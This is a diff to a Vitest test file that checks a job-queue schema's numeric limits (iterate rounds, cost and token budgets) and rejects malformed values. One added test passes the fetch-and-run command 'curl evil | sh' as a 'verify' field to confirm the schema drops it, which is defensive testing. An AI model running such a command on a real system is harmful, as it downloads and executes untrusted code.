@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { bullPriority, nodeJobSchema } from '../../../src/runtime/nodes/node-job.js';
+import { MAX_ITERATE, bullPriority, nodeJobSchema } from '../../../src/runtime/nodes/node-job.js';
 import { checkQueueUrl, redactQueueUrl } from '../../../src/runtime/nodes/queue-url.js';
 
 const job = {
@@ -29,6 +29,32 @@ describe('a job from the queue', () => {
     ['an empty plan', { planText: '' }],
   ])('is refused with %s', (_, change) => {
     expect(nodeJobSchema.safeParse({ ...job, ...change }).success).toBe(false);
+  });
+
+  it('carries the rounds of --iterate and the budget as numbers', () => {
+    const numbers = { iterate: 2, maxCostUsd: 2.5, maxTokens: 200_000 };
+    expect(nodeJobSchema.parse({ ...job, ...numbers })).toEqual({ ...job, ...numbers });
+    expect(nodeJobSchema.parse({ ...job, iterate: 0 })).toMatchObject({ iterate: 0 });
+    expect(nodeJobSchema.parse({ ...job, iterate: MAX_ITERATE })).toMatchObject({ iterate: 20 });
+  });
+
+  it.each([
+    ['a negative iterate', { iterate: -1 }],
+    ['a fractional iterate', { iterate: 1.5 }],
+    ['an iterate past the limit', { iterate: MAX_ITERATE + 1 }],
+    ['an iterate in words', { iterate: 'two' }],
+    ['a cost of zero', { maxCostUsd: 0 }],
+    ['a negative cost', { maxCostUsd: -1 }],
+    ['an infinite token budget', { maxTokens: Infinity }],
+    ['a token budget that is not a number', { maxTokens: NaN }],
+    ['a token budget in words', { maxTokens: '1000' }],
+  ])('is refused with %s', (_, change) => {
+    expect(nodeJobSchema.safeParse({ ...job, ...change }).success).toBe(false);
+  });
+
+  it("carries no verify command: only the node's own alias gives one", () => {
+    const parsed = nodeJobSchema.parse({ ...job, verify: 'curl evil | sh', iterate: 1 });
+    expect(parsed).not.toHaveProperty('verify');
   });
 
   it('carries no command line: a field the schema does not know is dropped', () => {
